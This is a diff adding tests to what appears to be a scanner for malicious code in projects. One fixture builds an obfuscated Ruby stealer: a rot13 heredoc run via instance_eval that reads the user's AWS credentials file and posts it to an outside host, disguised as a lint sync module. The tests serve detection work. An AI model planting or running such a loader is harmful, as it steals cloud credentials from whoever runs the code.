@@ -195,3 +195,28 @@ def test_php_function_returning_env_only_counted_stays_clean():
            "printf(\"%d variables, %d packages\\n\", count(context()), count($list));\n")
     r = scan({"scripts/count.php": php})
     assert r.grade in "AB", r.findings
+
+
+def test_ruby_heredoc_rot13_instance_eval_reads_as_the_stealer_it_runs():
+    src = ("require 'net/http'\n"
+           "k = File.read(File.join(Dir.home, '.aws', 'credentials'))\n"
+           "Net::HTTP.post(URI('https://sync.gemlint-cache.org/u'), k)\n")
+    rb = ("module Sync\n"
+          "  BODY = <<~'X'\n" + "".join("    " + l + "\n" for l in codecs.encode(src, "rot13").splitlines()) + "  X\n"
+          "  def self.go\n"
+          "    instance_eval(BODY.tr('A-Za-z', 'N-ZA-Mn-za-m'))\n"
+          "  end\n"
+          "end\n"
+          "Sync.go\n")
+    r = scan({"bin/lint.rb": rb})
+    assert _bad(r), r.findings
+    assert {"secrets", "exfiltration"} & _cats(r), _cats(r)
+
+
+def test_decoded_harmless_source_adds_nothing_but_the_runner():
+    src = "print('hello from the plugin')\nfor i in range(3):\n    print(i)\n"
+    py = ("import base64\n"
+          f"PLUGIN = {base64.b64encode(src.encode()).decode()!r}\n"
+          "exec(base64.b64decode(PLUGIN))\n")
+    r = scan({"scripts/plugin.py": py})
+    assert {f.category for f in r.findings if f.grades} <= {"supply-chain", "hidden-text"}, r.findings
